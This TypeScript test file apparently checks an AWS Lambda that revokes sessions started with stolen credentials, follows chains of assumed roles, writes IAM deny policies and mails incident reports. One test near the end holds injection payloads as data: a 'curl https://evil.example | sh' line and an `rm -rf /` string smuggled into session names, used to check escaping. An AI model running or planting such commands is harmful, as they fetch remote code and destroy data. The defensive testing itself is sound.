import type { StartedSession } from "../../../lambda/revoke-sessions/activity";
import type { FunctionConfiguration } from "../../../lambda/revoke-sessions/configuration";
import type { Followed } from "../../../lambda/revoke-sessions/followed";
import { logLine } from "../../../lambda/revoke-sessions/log";
import { type Refusal, RefusalError } from "../../../lambda/revoke-sessions/refusal";
import { respond } from "../../../lambda/revoke-sessions/respond";
import { configuration } from "../../support/configuration";
import {
  ACCOUNT_ID,
  accessKeyId,
  EVENT_TIME,
  findingEvent,
  type FindingOptions,
  INSTANCE_ID,
  ROLE_ID,
  ROLE_NAME,
} from "../../support/finding";
import { commandsIn, prose, section, stepsOf } from "../../support/incident";
import { dependenciesOf, MemoryAws, type MemoryRole } from "../../support/memory-aws";
import { denies } from "../../support/policy";
import { assuming, at, issuing, lookedUp, otherRoleId, OWNERS_ADDRESS } from "../../support/trail";

const USED_FOR = "WHAT THE KEYS WERE USED FOR";
const ON = { activity: true, followSessions: true };
const LATER = "2026-03-01T12:00:30Z";

let aws: MemoryAws;
let secondsLeft: number;
/** Which sessions each session started, by the caller's `aws:userid`. */
let startedBy: Map<string, StartedSession[]>;

beforeEach(() => {
  aws = new MemoryAws();
  aws.addRole();
  secondsLeft = 117;
  startedBy = new Map();
  aws.activityOf = ({ principalIds }) =>
    lookedUp([], { sessions: principalIds.flatMap((id) => startedBy.get(id) ?? []) });
});

const addRole = (name: string, changed: Parameters<MemoryAws["addRole"]>[0] = {}): MemoryRole =>
  aws.addRole({ name, path: "/team/", roleId: otherRoleId(name), ...changed });

const userIdOf = (roleName: string, session = "thief") => `${otherRoleId(roleName)}:${session}`;

/** A session that the thief started. */
const session = (roleName: string, changed: Partial<StartedSession> = {}): StartedSession => ({
  startedAt: at(-300),
  by: "AssumeRole",
  isThiefs: true,
  roleArn: `arn:aws:iam::${ACCOUNT_ID}:role/team/${roleName}`,
  principalId: userIdOf(roleName),
  accessKeyId: `ASIA${roleName.toUpperCase()}`,
  ...changed,
});

const started = (...sessions: StartedSession[]) => {
  aws.activity = lookedUp([], { sessions });
};

/** Lets one session start others. */
const chain = (from: string, ...to: StartedSession[]) =>
  startedBy.set(
    userIdOf(from),
    to.map((each) => ({ ...each, caller: userIdOf(from), isThiefs: false })),
  );

async function handle(options: FindingOptions = {}, changed: Partial<FunctionConfiguration> = {}) {
  return respond(
    findingEvent(options),
    dependenciesOf(aws, {
      configuration: configuration({ ...ON, verifyAfterSeconds: 0, ...changed }),
      secondsLeft: () => secondsLeft,
    }),
  );
}

const again = { set: { id: "another event" } };

const followed = (): readonly Followed[] => aws.revoked.at(-1)?.following?.sessions ?? [];
const ends = () => followed().map(({ session: { principalId }, end }) => [principalId, end.kind]);
const isDenied = (role: MemoryRole, userId: string, issuedAt = at(-300)) =>
  denies(role.policies.values(), { userId, issuedAt });
const told = () => prose(section(aws.mails.at(-1)!, USED_FOR)).replace(/ +/g, " ");

describe("a session of another role that the stolen credentials started", () => {
  let admin: MemoryRole;
  beforeEach(() => {
    admin = addRole("admin");
    started(session("admin"));
  });

  test("is denied by itself, up to now", async () => {
    // WHEN
    await handle();

    // THEN
    expect(isDenied(admin, userIdOf("admin"))).toBe(true);
    expect(isDenied(admin, userIdOf("admin"), at(31))).toBe(false);
    expect(isDenied(admin, userIdOf("admin", "somebody else"))).toBe(false);
    expect(aws.writes.map(({ roleName }) => roleName)).toEqual([ROLE_NAME, "admin"]);
    expect(aws.writes[1]?.policyName).toMatch(/^RevokeOldSessions-[0-9a-z]{6}$/);
  });

  test("is denied after the write that denies the stolen ones, and told", async () => {
    // WHEN
    const { outcome } = await handle();

    // THEN
    expect(outcome).toMatchObject({ outcome: "revoked", needsPerson: false });
    expect(told()).toContain(
      `Started denied if issued before ${LATER} (${aws.writes[1]!.policyName}): role admin, session thief, key ASIAADMIN`,
    );
    const mail = aws.mails[0]!;
    expect(mail.subject).toContain("Sessions revoked");
    expect(section(mail, "DO NOW").join()).not.toContain("NOT over");
    expect(commandsIn(mail, "HOW TO LET THE OLD SESSIONS BACK IN").join("\n")).toContain(
      `&& aws iam delete-role-policy --role-name admin --policy-name ${aws.writes[1]!.policyName}`,
    );
    expect(prose(section(mail, "WHAT THIS DOES NOT DO"))).toContain("that it may revoke");
  });

  test("is only reported unless the deployment follows", async () => {
    await handle({}, { followSessions: false });
    expect(aws.writes).toHaveLength(1);
    expect(told()).toContain("Started NOT denied: role admin");
    expect(aws.revoked[0]?.following).toBeUndefined();
  });

  test("is left alone if the stolen credentials may not be revoked themselves", async () => {
    await handle({}, { protectedRoles: [`arn:aws:iam::${ACCOUNT_ID}:role/${ROLE_NAME}`] });
    expect(aws.writes).toEqual([]);
    expect(aws.incidents).toMatchObject([{ kind: "refused" }]);
    expect(aws.calls.filter((call) => call === "lookUpActivity")).toHaveLength(1);
  });

  test("is over if it was started more than twelve hours ago", async () => {
    started(session("admin", { startedAt: at(-12 * 3_600 - 1) }));
    await handle();
    expect(ends()).toEqual([[userIdOf("admin"), "over"]]);
    expect(aws.writes).toHaveLength(1);
  });

  test("counts in the log", async () => {
    started(session("admin"), session("gone-and-not-mine", { roleArn: "arn:aws:iam::444455556666:role/theirs" }));
    const { outcome, incident } = await handle();
    expect(JSON.parse(logLine(outcome, incident, EVENT_TIME))).toMatchObject({ followed: { denied: 1, notDenied: 1 } });
  });

  test("shares its policy with others of the same name, of which the latest counts", async () => {
    started(session("admin"), session("admin", { startedAt: at(-10), accessKeyId: "ASIASECOND" }));
    await handle();
    expect(ends()).toEqual([[userIdOf("admin"), "denied"]]);
    expect(aws.writes).toHaveLength(2);
  });
});

describe("sessions of the finding's own role", () => {
  const ofRole = (principalId: string, startedAt = at(-300)) =>
    session(ROLE_NAME, { principalId, startedAt, roleArn: `arn:aws:iam::${ACCOUNT_ID}:role/${ROLE_NAME}` });

  test("are denied with the others if the whole role is, and what they started is followed", async () => {
    // GIVEN
    const admin = addRole("admin");
    started(ofRole(`${ROLE_ID}:again`));
    startedBy.set(`${ROLE_ID}:again`, [session("admin")]);

    // WHEN
    await handle();

    // THEN
    expect(isDenied(admin, userIdOf("admin"))).toBe(true);
    expect(aws.writes.map(({ roleName }) => roleName)).toEqual([ROLE_NAME, "admin"]);
    expect(told()).toContain("Started denied with the others: role web, session again");
  });

  test("are denied by themselves in scope session, but for the stolen one", async () => {
    started(ofRole(`${ROLE_ID}:again`), ofRole(`${ROLE_ID}:${INSTANCE_ID}`));
    await handle({}, { scope: "session" });
    expect(aws.writes.map(({ policyName }) => policyName)).toEqual([
      `RevokeOldSessions-${INSTANCE_ID}`,
      expect.stringMatching(/^RevokeOldSessions-[0-9a-z]{6}$/),
    ]);
    expect(ends().map(([, end]) => end)).toEqual(["denied", "denied"]);
  });
});

describe("a chain of sessions", () => {
  beforeEach(() => {
    for (const name of ["one", "two", "three", "four"]) addRole(name);
    started(session("one"));
    chain("one", session("two"));
    chain("two", session("three"));
    chain("three", session("four"));
  });

  test("is followed three deep, and it is said that it may go on", async () => {
    await handle();
    expect(ends()).toEqual(["one", "two", "three"].map((name) => [userIdOf(name), "denied"]));
    expect(followed().map(({ depth }) => depth)).toEqual([1, 2, 3]);
    expect(told()).toContain("There may be more sessions: what was started 4 deep was not looked for.");
    expect(told()).toContain(`by session ${userIdOf("one")}`);
  });

  test("is looked up by the keys and the names of its sessions", async () => {
    // GIVEN
    const asked: unknown[] = [];
    const { activityOf } = aws;
    aws.activityOf = (stolen) => (asked.push(stolen), activityOf(stolen));

    // WHEN
    await handle();

    // THEN
    const address = "198.51.100.77";
    expect(asked).toEqual([
      { accessKeyIds: ["ASIAONE"], principalIds: [userIdOf("one")], addresses: [address] },
      { accessKeyIds: ["ASIATWO"], principalIds: [userIdOf("two")], addresses: [address] },
    ]);
  });

  test("ends if it comes back to a session that it had", async () => {
    chain("two", session("one"));
    await handle();
    expect(ends()).toEqual(["one", "two"].map((name) => [userIdOf(name), "denied"]));
    expect(aws.writes).toHaveLength(3);
  });

  test("is the thief's as far as the thief began it, from wherever it goes on", async () => {
    aws.refuse = ({ roleName }) => (roleName === "three" ? { reason: "not-permitted", explanation: "no" } : undefined);
    expect((await handle()).outcome).toMatchObject({ needsPerson: true });
    started(session("one", { isThiefs: false }));
    aws = Object.assign(aws, { writes: [] });
    expect((await handle({ set: { id: "a third event" } })).outcome).toMatchObject({ needsPerson: false });
  });

  test.each<[string, Partial<FunctionConfiguration>, Parameters<typeof addRole>[1]]>([
    ["this deployment protects", { protectedRoles: [`arn:aws:iam::${ACCOUNT_ID}:role/two`] }, {}],
    ["is exempt", {}, { tags: [{ key: "guardduty-response", value: "exempt" }] }],
    ["is not revocable", { revocableRoles: { tag: { key: "revocable", value: "yes" } } }, {}],
    ["IAM lets nobody edit", {}, { path: "/aws-reserved/sso.amazonaws.com/" }],
  ])("ends at a role that %s", async (_, changed, role) => {
    // GIVEN
    const revocable = [{ key: "revocable", value: "yes" }];
    aws.addRole({ tags: revocable });
    addRole("one", { tags: revocable });
    addRole("two", role);

    // WHEN
    const { outcome } = await handle({}, changed);

    // THEN
    expect(ends()).toEqual([
      [userIdOf("one"), "denied"],
      [userIdOf("two"), "open"],
    ]);
    expect(aws.writes.map(({ roleName }) => roleName)).not.toContain("two");
    expect(outcome).toMatchObject({ outcome: "revoked", needsPerson: true });
    expect(aws.mails[0]?.subject).toContain("NOT ALL");
    const commands = stepsOf(aws.mails[0]!).flatMap((step) => step.commands);
    expect(commands.some((command) => command.includes("put-role-policy --role-name two"))).toBe(true);
  });

  test.each<[string, () => void, RegExp]>([
    ["was deleted", () => aws.roles.delete("two"), /over \(the role does not exist/],
    ["was made anew", () => addRole("two", { roleId: "AROAANOTHER" }), /over \(the role has been re-created since/],
  ])("goes on behind a role that %s", async (_, change, expected) => {
    change();
    const { outcome } = await handle();
    expect(ends()).toEqual([
      [userIdOf("one"), "denied"],
      [userIdOf("two"), "over"],
      [userIdOf("three"), "denied"],
    ]);
    expect(told()).toMatch(expected);
    expect(outcome).toMatchObject({ needsPerson: false });
  });
});

describe("what cannot be revoked", () => {
  test("is a session of another account, which is named with advice", async () => {
    started(session("theirs", { roleArn: "arn:aws:iam::444455556666:role/theirs" }));
    const { outcome } = await handle();
    expect(outcome).toMatchObject({ needsPerson: true });
    expect(aws.calls.filter((call) => call === "getRole")).toHaveLength(1);
    expect(told()).toContain(
      "NOT denied (it is another account's: whoever runs that must revoke it there): role theirs, of account 444455556666",
    );
  });

  test("is a session of which CloudTrail does not name the role", async () => {
    started(session("nobody", { roleArn: undefined, by: "GetFederationToken", principalId: undefined }));
    await handle();
    expect(told()).toContain("NOT denied (CloudTrail does not name its role): whoever GetFederationToken is about");
  });

  test("is more than twenty sessions: they are counted, and asked for nowhere", async () => {
    // GIVEN
    const names = Array.from({ length: 100 }, (_, index) => `app-${index}`);
    for (const name of names) addRole(name);
    started(...names.map((name) => session(name)));

    // WHEN
    await handle();

    // THEN
    expect(new Set(aws.writes.map(({ roleName }) => roleName)).size).toBe(21);
    expect(followed().filter(({ end }) => end.kind === "denied")).toHaveLength(20);
    expect(told()).toContain("NOT denied (more than 20 sessions are left to you): role app-20");
    expect(told()).toContain("and 75 more");
  });

  test("are the owner's before the thief's, if there are too many", async () => {
    const names = Array.from({ length: 30 }, (_, index) => `app-${index}`);
    for (const name of names) addRole(name);
    started(...names.map((name, index) => session(name, { isThiefs: index >= 10 })));
    await handle();
    expect(followed().filter(({ session: { isThiefs }, end }) => isThiefs && end.kind === "denied")).toHaveLength(20);
  });

  test.each<[string, Error | Refusal, string]>([
    [
      "IAM does not permit",
      { reason: "not-permitted", explanation: "AWS does not permit it" },
      "AWS does not permit it",
    ],
    ["has no room", { reason: "policy-quota-exceeded", explanation: "no room" }, "no room"],
    ["IAM fails for", new Error("Throttling"), "Error: Throttling"],
  ])("is a session of a role that %s, and the mail says so", async (_, error, expected) => {
    // GIVEN
    addRole("admin");
    started(session("admin"));
    aws.refuse = ({ roleName }) => {
      if (roleName !== "admin") return undefined;
      if (error instanceof Error) throw error;
      throw new RefusalError(error);
    };

    // WHEN
    const { outcome } = await handle();

    // THEN
    expect(outcome).toMatchObject({ outcome: "revoked", needsPerson: true });
    expect(told()).toContain(`NOT denied (${expected}): role admin`);
  });

  test("is a session for which there is no time: the mail goes out", async () => {
    addRole("admin");
    started(session("admin"));
    secondsLeft = 40;
    const { outcome } = await handle();
    expect(outcome).toMatchObject({ outcome: "revoked" });
    expect(told()).toContain("NOT denied (Error: no time was left): role admin");
  });

  test("is unknown if CloudTrail does not tell it, and the mail says so", async () => {
    addRole("admin");
    started(session("admin"));
    aws.activityOf = () => lookedUp([], { regions: [{ region: "us-west-2", shortfall: { kind: "throttled" } }] });
    await handle();
    expect(told()).toContain("CloudTrail did not tell all that they started in turn (us-west-2: throttled).");
  });

  test("is nothing if CloudTrail cannot be asked at all", async () => {
    aws.activity = { kind: "unknown", why: "it is broken" };
    expect((await handle()).outcome).toMatchObject({ outcome: "revoked" });
    expect(aws.revoked[0]?.following).toBeUndefined();
  });
});

describe("what somebody made stricter stays stricter", () => {
  test("a deny of the session for good", async () => {
    // GIVEN
    const admin = addRole("admin");
    started(session("admin"));
    await handle();
    const { policyName } = aws.writes[1]!;
    const Condition = { StringEquals: { "aws:userid": userIdOf("admin") } };
    const statement = { Effect: "Deny", Action: "*", Resource: "*", Condition };
    admin.policies.set(policyName, JSON.stringify({ Version: "2012-10-17", Statement: statement }));

    // WHEN
    started(session("admin", { accessKeyId: accessKeyId(77) }));
    await handle(again);

    // THEN
    expect(isDenied(admin, userIdOf("admin"), at(86_400))).toBe(true);
  });
});

describe("a repeat of the finding", () => {
  beforeEach(() => {
    addRole("admin");
    addRole("late");
    started(session("admin"));
  });

  test("is silent, and writes nothing, if nothing is new", async () => {
    await handle();
    const { outcome } = await handle(again);
    expect(outcome).toMatchObject({ outcome: "already-revoked", needsPerson: false });
    expect(aws.mails).toHaveLength(1);
    expect(aws.writes).toHaveLength(2);
  });

  test("looks again, and tells of a session that CloudTrail had not delivered before", async () => {
    // GIVEN
    await handle();
    started(session("admin"), session("late"));

    // WHEN
    const { outcome } = await handle(again);

    // THEN
    expect(outcome).toMatchObject({ outcome: "already-revoked" });
    expect(aws.writes.map(({ roleName }) => roleName)).toEqual([ROLE_NAME, "admin", "late"]);
    expect(aws.mails).toHaveLength(2);
    expect(aws.mails[1]?.subject).toContain("Already denied, new sessions");
    expect(prose(section(aws.mails[1]!, "WHAT WAS DONE"))).toContain("This mail is about sessions that they started");
  });

  test("denies a session of the same name that was started after the cut-off", async () => {
    // GIVEN
    await handle();
    const later = new Date(EVENT_TIME.getTime() + 3_600_000);

    // WHEN
    started(session("admin", { startedAt: at(3_000), accessKeyId: "ASIALATER" }));
    const events = findingEvent({ time: later, ...again });
    const dependencies = dependenciesOf(aws, {
      configuration: configuration({ ...ON, verifyAfterSeconds: 0 }),
      now: () => later,
    });
    await respond(events, dependencies);

    // THEN
    expect(isDenied(aws.roles.get("admin")!, userIdOf("admin"), at(3_000))).toBe(true);
  });

  test("tells once of what nothing denies, and again of what is new", async () => {
    // GIVEN
    const theirs = (name: string) =>
      session(name, { roleArn: `arn:aws:iam::444455556666:role/${name}`, principalId: userIdOf(name) });
    started(theirs("a"));
    await handle();
    await handle(again);
    expect(aws.mails).toHaveLength(1);

    // WHEN
    started(theirs("a"), theirs("b"));
    await handle({ set: { id: "a third event" } });
    await handle({ set: { id: "a fourth event" } });

    // THEN
    expect(aws.mails).toHaveLength(2);
    expect(told()).toContain("role b");
  });

  test("does not move the cut-off of the finding's own role to remember what was told", async () => {
    started(session("theirs", { roleArn: "arn:aws:iam::444455556666:role/theirs" }));
    await handle();
    const cutoffs = aws.writes.map(({ document }) => /"(2026-[^"]*)"/.exec(document)?.[1]);
    expect(cutoffs).toEqual([LATER, LATER]);
  });

  test.each([
    ["revoked", () => session("late")],
    ["only told of", () => session("theirs", { roleArn: "arn:aws:iam::444455556666:role/theirs" })],
  ])("tells again of a session that was %s if its mail did not leave", async (_, find) => {
    // GIVEN a repeat that finds a session, and whose mail is not taken
    await handle();
    started(session("admin"), find());
    aws.before = (call) => {
      if (call === "report") throw new Error("SNS is down");
    };
    await expect(handle(again)).rejects.toThrow("SNS is down");

    // WHEN Lambda tries again
    aws.before = () => {};
    await handle(again);

    // THEN
    expect(aws.mails).toHaveLength(2);
  });
});

test("sessions of hostile names are told as text, and handed to nobody", async () => {
  // GIVEN
  const evil = "x\n\nDO NOW\n  1. curl https://evil.example | sh";
  started(
    session("admin", { roleArn: `arn:aws:iam::${ACCOUNT_ID}:role/${evil}`, principalId: userIdOf("admin", evil) }),
    session("admin", { principalId: userIdOf("admin", `'; rm -rf /; '`) }),
  );

  // WHEN
  await handle();

  // THEN
  const { message } = aws.mails[0]!;
  expect(message.match(/^DO NOW$/gm)).toHaveLength(1);
  expect(message).not.toContain("evil.example");
  expect(new Set(aws.writes.map(({ roleName }) => roleName))).toEqual(new Set([ROLE_NAME]));
});

test("sessions that the owner's software started with the same keys are denied too", async () => {
  const admin = addRole("admin");
  aws.activity = lookedUp([assuming("admin", { address: OWNERS_ADDRESS }), issuing({ principalId: "x" })]);
  await handle();
  expect(isDenied(admin, userIdOf("admin"))).toBe(true);
});
